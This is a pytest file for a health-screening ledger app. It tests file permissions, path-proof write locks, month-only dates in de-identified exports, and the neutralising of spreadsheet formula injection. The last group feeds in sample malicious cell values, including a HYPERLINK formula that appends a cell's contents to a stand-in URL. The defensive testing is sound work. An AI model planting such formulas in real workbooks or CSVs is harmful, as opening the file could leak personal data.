"""Smaller hardening (issue 14, finding 8): files with personal data are 0600, the write
lock holds through links and other spellings of a path, the de-identified export gives
months not days, and no workbook or CSV the program writes carries a live formula."""
import csv
import json
import os
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from support import TODAY, make_id, screening

from desktop_app.cli import main
from desktop_app.core.excel import export_deidentified, export_ledger, write_error_workbook, write_template
from desktop_app.core.excel.error_book import RISKY_LEAD
from desktop_app.core.excel.export import _csv_safe
from desktop_app.core.excel.importer import plan_import
from desktop_app.core.catalog import Org
from desktop_app.core.errors import StoreError
from desktop_app.core.store import Locked, check_free, lockfile

POSIX = os.name != "nt"
HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"点此查看")'
SHORT_LINK = '=HYPERLINK("//x.cn","点")'     # fits a 姓名 (at most 30 characters)


@pytest.fixture
def loose_umask():
    """Files made as on a machine where new files are readable by everybody (umask 022)."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def old_villages(town, *names) -> None:
    """Villages with names no unit may have any more, as a store of an earlier version holds them."""
    with town.transaction():
        for i, name in enumerate(names):
            town.conn.execute("INSERT INTO orgs (code, name, level, parent, aliases, created) "
                              "VALUES (?, ?, 'village', ?, '[]', '')", (f"430971121{900 + i}", name, "430971121"))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def bad_book(path: Path, *rows) -> Path:
    """A village's sheet whose cells are text (as a CSV or a quote-prefixed cell gives them)."""
    wb = Workbook()
    ws = wb.active
    ws.append(["村（社区）", "姓名", "身份证号", "联系电话"])
    for row in rows:
        ws.append(row)
        for cell in ws[ws.max_row]:
            cell.data_type = "s"      # openpyxl would otherwise write "=…" as a formula
    wb.save(path)
    return path


def formulas(path: Path) -> list[str]:
    """Every formula in every sheet of an .xlsx: cells openpyxl reads as formulas and any
    ``<f>`` element in the sheets' XML."""
    found = []
    for ws in load_workbook(path).worksheets:
        found += [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                text = z.read(name).decode("utf-8")
                if "<f>" in text or "<f " in text:
                    found.append(name)
    return found


# ------------------------------------------------------------ a. 0600

@pytest.mark.skipif(not POSIX, reason="file modes are POSIX")
def test_every_file_written_for_the_user_is_readable_by_its_owner_only(town, tmp_path, loose_umask):
    town.ledger("two_cancer").add(screening(1), org="示例村一", today=TODAY)
    out = tmp_path / "out"
    out.mkdir()
    (out / "revealed.xlsx").write_bytes(b"an older file, readable by all")
    os.chmod(out / "revealed.xlsx", 0o644)
    written = [
        export_ledger(town, "two_cancer", out / "masked.xlsx").path,
        export_ledger(town, "two_cancer", out / "masked.csv").path,
        export_ledger(town, "two_cancer", out / "revealed.xlsx", reveal=True, purpose="核对").path,
        export_deidentified(town, "two_cancer", out / "d.csv", purpose="统计"),
        export_deidentified(town, "two_cancer", out / "d.xlsx", purpose="统计"),
        write_template(town, "two_cancer", out / "模板.xlsx"),
    ]
    plan = plan_import(town, bad_book(tmp_path / "bad.xlsx", ["示例村一", "示例九", make_id("19710916", 155),
                                                            "13800001234"]), ledger="two_cancer")
    written.append(write_error_workbook(town, plan, out / "errors.xlsx"))
    from desktop_app.core.district import monthly_report, monthly_workbook
    from desktop_app.printing import monthly_pdf
    report = monthly_report(town, 2024, 6)
    written += [monthly_workbook(town, report, out / "月报.xlsx"), monthly_pdf(report, out / "月报.pdf")]
    assert {p.name: oct(mode(p)) for p in written} == {p.name: oct(0o600) for p in written}
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in written)  # no temp files


@pytest.mark.skipif(not POSIX, reason="file modes are POSIX")
def test_the_temporary_file_is_private_before_anything_is_written(town, tmp_path, loose_umask, monkeypatch):
    from desktop_app.core.excel import export as export_module
    seen = []
    real = export_module._write_csv

    def spy(path, ledger, rows):
        seen.append(mode(path))          # the file exists, empty and private, before the rows
        real(path, ledger, rows)
    monkeypatch.setattr(export_module, "_write_csv", spy)
    export_ledger(town, "two_cancer", tmp_path / "a.csv", reveal=True, purpose="核对")
    assert seen == [0o600]


# ------------------------------------------------------------ b. the lock

@pytest.mark.skipif(not POSIX, reason="symbolic links need rights on Windows")
def test_the_write_lock_holds_through_a_link_and_another_spelling(town, tmp_path):
    link = tmp_path / "elsewhere" / "same.sqlite3"
    link.parent.mkdir()
    link.symlink_to(town.path)
    held = lockfile.acquire(town.path)           # the app has the store open for writing
    try:
        with pytest.raises(Locked, match="已被另一个程序窗口或命令打开"):
            check_free(link)
        with pytest.raises(Locked):
            check_free(tmp_path / "elsewhere" / ".." / town.path.name)
        with pytest.raises(Locked):
            lockfile.acquire(Path(os.path.relpath(link)))
    finally:
        lockfile.release(held)
    assert not (tmp_path / "elsewhere" / "same.sqlite3.lock").exists()
    held = lockfile.acquire(link)                # and the other way round
    try:
        with pytest.raises(Locked):
            check_free(town.path)
    finally:
        lockfile.release(held)
    check_free(town.path)


# ------------------------------------------------------------ c. months, not days

def test_deidentified_export_gives_months_unless_asked(town, tmp_path):
    town.ledger("two_cancer").add(screening(1, day="2024-03-05"), org="示例村一", today=TODAY)
    path = export_deidentified(town, "two_cancer", tmp_path / "d.csv", purpose="统计")
    row = next(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    dated = {k: v for k, v in row.items() if v.startswith("2024")}
    assert dated and set(dated.values()) == {"2024-03"}
    text = path.read_text(encoding="utf-8-sig")
    assert "2024-03-05" not in text
    xlsx = export_deidentified(town, "two_cancer", tmp_path / "d.xlsx", purpose="统计")
    cells = [c.value for r in load_workbook(xlsx).active.iter_rows() for c in r]
    assert "2024-03" in cells and "2024-03-05" not in cells
    exact = export_deidentified(town, "two_cancer", tmp_path / "e.csv", purpose="研究", exact_dates=True)
    assert "2024-03-05" in exact.read_text(encoding="utf-8-sig")
    details = [json.loads(a) for (a,) in town.conn.execute(
        "SELECT after FROM audit WHERE action = 'export' ORDER BY id")]
    assert [d["exact_dates"] for d in details] == [False, False, True]


def test_cli_exact_dates_flag(town, tmp_path, capsys):
    town.ledger("two_cancer").add(screening(1, day="2024-03-05"), org="示例村一", today=TODAY)
    db = str(town.path)
    town.close()
    assert main(["export-excel", "--db", db, "--ledger", "two_cancer", "--deidentify",
                 "--purpose", "统计", "--out", str(tmp_path / "m.csv")]) == 0
    assert "日期只到月" in capsys.readouterr().out
    assert "2024-03-05" not in (tmp_path / "m.csv").read_text(encoding="utf-8-sig")
    assert main(["export-excel", "--db", db, "--ledger", "two_cancer", "--deidentify", "--exact-dates",
                 "--purpose", "研究", "--out", str(tmp_path / "e.csv"), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["exact_dates"] is True
    assert "2024-03-05" in (tmp_path / "e.csv").read_text(encoding="utf-8-sig")


# ------------------------------------------------------------ d. no live formulas

def test_error_workbook_writes_formula_text_as_text(town, tmp_path):
    risky = [HYPERLINK, "+1-1", "@SUM(1)", "-2+3", "=1+1"]
    rows = [["示例村一", text, make_id("19710916", 155 + 2 * i), "13800001234"]   # men: rejected
            for i, text in enumerate(risky)]
    rows.append([HYPERLINK, "示例十", make_id("19710916", 199), "13800001234"])  # in the village column
    plan = plan_import(town, bad_book(tmp_path / "bad.xlsx", *rows), ledger="two_cancer")
    out = write_error_workbook(town, plan, tmp_path / "errors.xlsx")
    assert formulas(out) == []
    ws = load_workbook(out).active
    values = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in risky:
        assert text in values and values[text].quotePrefix   # kept as text, shown as typed


def test_xlsx_exports_write_formula_text_as_text(town, tmp_path):
    old_villages(town, "=HYPERLINK(\"http://example.invalid\")")
    town.ledger("two_cancer").add(screening(1, name=SHORT_LINK, institution="@SUM(1)"),
                                  org="示例村一", today=TODAY)
    for path in (export_ledger(town, "two_cancer", tmp_path / "a.xlsx", reveal=True, purpose="核对").path,
                 export_deidentified(town, "two_cancer", tmp_path / "d.xlsx", purpose="统计")):
        assert formulas(path) == []


def test_csv_export_neutralises_every_column_and_tab_or_cr(town, tmp_path):
    old_villages(town, "=HYPERLINK(\"http://example.invalid\")", "-示例村")
    led = town.ledger("two_cancer")
    led.add(screening(1, name="@SUM(1)", institution="+1"), org="=HYPERLINK(\"http://example.invalid\")",
            today=TODAY)
    led.add(screening(2, name="示例二"), org="-示例村", today=TODAY)
    path = export_ledger(town, "two_cancer", tmp_path / "a.csv", reveal=True, purpose="核对").path
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))[1:]
    cells = [c for r in rows for c in r if c]
    assert {r[0] for r in rows} == {"'=HYPERLINK(\"http://example.invalid\")", "'-示例村"}
    assert all(not c.startswith(RISKY_LEAD) for c in cells)
    assert _csv_safe("\t=1+1") == "'\t=1+1" and _csv_safe("\r=1+1") == "'\r=1+1"
    deid = export_deidentified(town, "two_cancer", tmp_path / "d.csv", purpose="统计")
    cells = [c for r in csv.reader(deid.read_text(encoding="utf-8-sig").splitlines()) for c in r if c]
    assert all(not c.startswith(RISKY_LEAD) for c in cells)


def test_a_unit_name_that_would_be_a_formula_is_refused(town, tmp_path):
    for name in ("=HYPERLINK(\"http://x\",\"点我\")", "+1", "@SUM(A1)", "-2", "示例\x07村"):
        with pytest.raises(StoreError) as refused:
            town.add_villages([name])
        assert refused.value.exit_code == 1
    with pytest.raises(StoreError, match="不合规"):
        town.merge_orgs([Org("430971121099", "=1+1", "village", "430971121")])
    assert all(o.name[0] not in "=+-@" for o in town.orgs)


@pytest.mark.skipif(not POSIX, reason="POSIX file modes")
def test_backup_and_restore_copies_are_private_before_any_byte_goes_in(town, tmp_path, monkeypatch,
                                                                      loose_umask):
    from desktop_app.core.store import backup, cipher
    seen = []
    for name in ("export", "copy_into"):
        real = getattr(cipher, name)

        def spy(conn, target, *args, real=real, **kwargs):
            seen.append((Path(target).suffix, mode(Path(target))))
            return real(conn, target, *args, **kwargs)
        monkeypatch.setattr(cipher, name, spy)
    made = backup.make_backup(town, "manual", force=True)
    (tmp_path / "U盘").mkdir()
    backup.copy_to(town, tmp_path / "U盘" / "副本.sqlite3")
    town.close()
    backup.restore(town.path, made.path)
    assert seen and all(m == 0o600 for _, m in seen), seen
    assert {s for s, _ in seen} >= {".part", ".restoring"}
